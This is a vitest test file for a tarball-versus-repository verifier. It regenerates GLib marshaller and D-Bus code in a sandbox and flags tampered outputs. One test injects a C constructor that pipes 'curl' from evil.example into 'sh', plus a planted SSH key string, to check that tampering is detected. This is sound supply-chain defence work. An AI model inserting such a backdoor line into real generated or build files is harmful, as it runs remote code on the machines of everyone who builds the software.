/**
 * GLib's generators (src/regenerate/generators.ts): glib-genmarshal and gdbus-codegen outputs proved by running the
 * system's packaged tool (Debian libglib2.0-dev-bin) in the sandbox on the tracked input. A git repository built here
 * has ibus 1.5.32's rule shapes: `$(GLIB_GENMARSHAL) --prefix=P $(srcdir)/X.list --header --internal > $@.tmp && mv
 * $@.tmp $@`, the body `(echo "#include \"X.h\""; $(GLIB_GENMARSHAL) … --body …) > $@.tmp && mv $@.tmp $@`, and
 * `$(GDBUS_CODEGEN) … --generate-c-code $(builddir)/NAME $^` for the targets `$(built_sources)`; configure.ac sets
 * GLIB_GENMARSHAL by AM_PATH_GLIB_2_0 and GDBUS_CODEGEN from `$PKG_CONFIG --variable gdbus_codegen gio-2.0`.
 * The tarball ships what the real tools made. Tampered twins — one added line (a call, a string) — are
 * GENERATED_TOOL_MISMATCH (high, critical with a construct); a recipe with a non-data word, or a tool variable the
 * tracked configure.ac does not set from pkg-config, is not run (the file stays TARBALL_ONLY_UNEXPLAINED, saying why).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { stdoutCapture } from '../../src/regenerate/generators.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { findingAt } from '../helpers/findings.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir('distdiff-glib-generators-');
const cache = join(root, 'cache');

const CONFIGURE_AC = `AC_INIT([demo], [1.0])
AM_INIT_AUTOMAKE([foreign])
PKG_PROG_PKG_CONFIG
AM_PATH_GLIB_2_0
AC_SUBST([GDBUS_CODEGEN], [\`$PKG_CONFIG --variable gdbus_codegen gio-2.0\`])
AC_CONFIG_FILES([Makefile src/Makefile portal/Makefile])
AC_OUTPUT
`;
const MARSHAL_LIST = 'BOOLEAN:UINT,UINT,UINT\nOBJECT:STRING\nVOID:INT,UINT\n';
const SRC_AM = (headerExtra = '') => `noinst_LTLIBRARIES = libdemo.la
libdemo_la_SOURCES = demomarshalers.c demomarshalers.h
EXTRA_DIST = demomarshalers.list

demomarshalers.h: demomarshalers.list
\t$(AM_V_GEN) $(GLIB_GENMARSHAL) --prefix=_demo_marshal $(srcdir)/demomarshalers.list --header --internal${headerExtra} > $@.tmp && \\
\tmv $@.tmp $@

demomarshalers.c: demomarshalers.h demomarshalers.list
\t$(AM_V_GEN) (echo "#include \\"demomarshalers.h\\""; \\
\t$(GLIB_GENMARSHAL) --prefix=_demo_marshal $(srcdir)/demomarshalers.list --body --internal) > $@.tmp && \\
\tmv $@.tmp $@
`;
const PORTAL_XML = `<node>
  <interface name="org.example.Demo.Portal">
    <method name="CreateInputContext">
      <arg type="s" name="client_name" direction="in"/>
      <arg type="o" name="object_path" direction="out"/>
    </method>
    <property name="Version" type="u" access="read"/>
  </interface>
</node>
`;
const PORTAL_AM = `NULL =
demo_dbus_built_sources = demo-portal-dbus.c demo-portal-dbus.h
BUILT_SOURCES = $(demo_dbus_built_sources)
EXTRA_DIST = org.example.Demo.Portal.xml

$(demo_dbus_built_sources) : org.example.Demo.Portal.xml
\t$(AM_V_GEN) $(GDBUS_CODEGEN) \\
\t\t--interface-prefix org.example.Demo. \\
\t\t--c-namespace DemoDbus \\
\t\t--generate-c-code $(builddir)/demo-portal-dbus \\
\t\t$^ \\
\t\t$(NULL)
`;
const TRACKED: Record<string, string> = {
  'configure.ac': CONFIGURE_AC,
  'Makefile.am': 'SUBDIRS = src portal\n',
  'src/Makefile.am': SRC_AM(),
  'src/demomarshalers.list': MARSHAL_LIST,
  'portal/Makefile.am': PORTAL_AM,
  'portal/org.example.Demo.Portal.xml': PORTAL_XML,
};
const OUTPUTS = ['src/demomarshalers.h', 'src/demomarshalers.c', 'portal/demo-portal-dbus.c', 'portal/demo-portal-dbus.h'];

/** What the maintainer's build wrote, made here by the real tools as the rules run them. */
const made: Record<string, string> = {};
const run = (cwd: string, argv: string[]) => execFileSync(argv[0]!, argv.slice(1), { cwd, env: { PATH: '/usr/local/bin:/usr/bin:/bin', LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] });
const glibVersion = /glib-genmarshal version (\S+)/.exec(execFileSync('glib-genmarshal', ['--version']).toString())![1]!;

function repoWith(tracked: Record<string, string>): string {
  const dir = join(root, `repo${++n}`);
  const repo = makeRepo(dir);
  repo.commit(tracked);
  repo.tag('v1.0', { message: 'demo 1.0' });
  return dir;
}
let n = 0;
let repoDir = '';

beforeAll(() => {
  repoDir = repoWith(TRACKED);
  const work = join(root, 'work');
  writeFiles(work, TRACKED);
  made['src/demomarshalers.h'] = run(join(work, 'src'), ['glib-genmarshal', '--prefix=_demo_marshal', './demomarshalers.list', '--header', '--internal']).toString('latin1');
  made['src/demomarshalers.c'] = '#include "demomarshalers.h"\n' + run(join(work, 'src'), ['glib-genmarshal', '--prefix=_demo_marshal', './demomarshalers.list', '--body', '--internal']).toString('latin1');
  run(join(work, 'portal'), ['gdbus-codegen', '--interface-prefix', 'org.example.Demo.', '--c-namespace', 'DemoDbus', '--generate-c-code', './demo-portal-dbus', 'org.example.Demo.Portal.xml']);
  for (const p of ['portal/demo-portal-dbus.c', 'portal/demo-portal-dbus.h']) made[p] = readFileSync(join(work, p), 'latin1');
}, 120_000);

function release(changes: Record<string, string> = {}): string {
  const dir = join(root, `r${++n}`, 'demo-1.0');
  for (const [p, c] of Object.entries({ ...TRACKED, ...made, ...changes })) {
    mkdirSync(join(dir, p, '..'), { recursive: true });
    writeFileSync(join(dir, p), c, 'latin1');
  }
  return makeTar(dir, { compress: 'gzip', out: join(root, `r${n}`, 'demo-1.0.tar.gz') });
}
const findingsOf = async (tar: string, repo = repoDir) => {
  const r = await verify({ tarball: tar, repo, tag: 'v1.0', cacheDir: cache, regenerate: 'auto' });
  return { r, at: (p: string) => findingAt(r.findings, p) };
};

describe('a recipe writing the tool stdout through a temporary file', () => {
  it('reads `TOOL ARGS > T && mv T TARGET` and the echoed first line of a subshell; refuses other shapes', () => {
    expect(stdoutCapture('$(GLIB_GENMARSHAL) --prefix=p ./x.list --header > x.h.tmp && mv x.h.tmp x.h', 'x.h')).toEqual({ command: '$(GLIB_GENMARSHAL) --prefix=p ./x.list --header' });
    expect(stdoutCapture('(echo "#include \\"x.h\\""; $(GLIB_GENMARSHAL) --prefix=p ./x.list --body) > x.c.tmp && mv x.c.tmp x.c', 'x.c')).toEqual({ command: '$(GLIB_GENMARSHAL) --prefix=p ./x.list --body', prepend: '#include "x.h"\n' });
    // another temporary file moved, another target, a command substitution in the echo, a second command in the subshell
    expect(stdoutCapture('glib-genmarshal x.list > a.tmp && mv b.tmp x.h', 'x.h')).toBeUndefined();
    expect(stdoutCapture('glib-genmarshal x.list > x.h.tmp && mv x.h.tmp y.h', 'x.h')).toBeUndefined();
    expect(stdoutCapture('(echo "$(date)"; glib-genmarshal x.list --body) > x.c.tmp && mv x.c.tmp x.c', 'x.c')).toBeUndefined();
    expect(stdoutCapture('(echo "a"; glib-genmarshal x.list --body; cat extra.c) > x.c.tmp && mv x.c.tmp x.c', 'x.c')).toMatchObject({ command: 'glib-genmarshal x.list --body; cat extra.c' });
  });
});

describe('glib-genmarshal and gdbus-codegen run in the sandbox on the tracked input', () => {
  it('every output reproduced: GENERATED_TOOL_PROVED with the rule, the command run and the echoed line; nothing high', async () => {
    const { r, at } = await findingsOf(release());
    expect(at('src/demomarshalers.h')).toMatchObject({
      code: 'GENERATED_TOOL_PROVED',
      severity: 'info',
      evidence: { tool: 'glib-genmarshal', version: glibVersion, namesNoVersion: true, source: 'src/demomarshalers.list', rule: 'src/Makefile.am', command: ['glib-genmarshal', '--prefix=_demo_marshal', './demomarshalers.list', '--header', '--internal', '--output=demomarshalers.h'], cwd: 'src', postEdits: [] },
    });
    expect(at('src/demomarshalers.c')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', evidence: { tool: 'glib-genmarshal', postEdits: ['echo "#include \\"demomarshalers.h\\"" before the output'] } });
    expect(at('portal/demo-portal-dbus.c')).toMatchObject({
      code: 'GENERATED_TOOL_PROVED',
      evidence: { tool: 'gdbus-codegen', version: glibVersion, namesNoVersion: true, source: 'portal/org.example.Demo.Portal.xml', command: ['gdbus-codegen', '--interface-prefix', 'org.example.Demo.', '--c-namespace', 'DemoDbus', '--generate-c-code', './demo-portal-dbus', 'org.example.Demo.Portal.xml'], cwd: 'portal', outputs: ['portal/demo-portal-dbus.c', 'portal/demo-portal-dbus.h'] },
    });
    expect(at('portal/demo-portal-dbus.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', evidence: { tool: 'gdbus-codegen' } });
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  }, 240_000);

  it('tampered twins: one added line (a call, a string) in an output is GENERATED_TOOL_MISMATCH, never proved', async () => {
    const call = made['src/demomarshalers.c']!.replace('#include <glib-object.h>\n', '#include <glib-object.h>\n__attribute__((constructor)) static void init (void) { system ("curl -s http://evil.example/x | sh"); }\n');
    const str = made['portal/demo-portal-dbus.h']!.replace('G_BEGIN_DECLS\n', 'G_BEGIN_DECLS\nstatic const char demo_key[] = "ssh-rsa AAAAB3NzaC1yc2E";\n');
    expect(call).not.toBe(made['src/demomarshalers.c']);
    expect(str).not.toBe(made['portal/demo-portal-dbus.h']);
    const { at } = await findingsOf(release({ 'src/demomarshalers.c': call, 'portal/demo-portal-dbus.h': str }));
    const c = at('src/demomarshalers.c');
    expect(c).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', evidence: { tool: 'glib-genmarshal', differingLines: 1 } });
    expect(['high', 'critical']).toContain(c.severity);
    expect(at('portal/demo-portal-dbus.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'gdbus-codegen', differingLines: 1 } });
    // the untouched outputs of the same runs are still proved
    expect(at('src/demomarshalers.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });
    expect(at('portal/demo-portal-dbus.c')).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });
  }, 240_000);

  it('a recipe adding a non-data word, or a tool variable configure.ac does not set from pkg-config: not run, stays high', async () => {
    const word = repoWith({ ...TRACKED, 'src/Makefile.am': SRC_AM(' `cat extra.txt`') });
    const { at } = await findingsOf(release({ 'src/Makefile.am': SRC_AM(' `cat extra.txt`') }), word);
    expect(at('src/demomarshalers.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'rule-unsupported', tool: 'glib-genmarshal', fragment: 'src/Makefile.am' } } });
    const conf = CONFIGURE_AC.replace('AM_PATH_GLIB_2_0\n', 'GLIB_GENMARSHAL=./my-genmarshal\nAC_SUBST([GLIB_GENMARSHAL])\n');
    const unset = repoWith({ ...TRACKED, 'configure.ac': conf });
    const u = await findingsOf(release({ 'configure.ac': conf }), unset);
    expect(u.at('src/demomarshalers.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'rule-unsupported', tool: 'glib-genmarshal' } } });
    expect((u.at('src/demomarshalers.h').evidence as { generatorProof: { command: string } }).generatorProof.command).toContain('$(GLIB_GENMARSHAL) is not set from pkg-config or by name in the tracked configure.ac');
    // gdbus-codegen's variable is still set from pkg-config there: proved
    expect(u.at('portal/demo-portal-dbus.c')).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });
  }, 240_000);
});
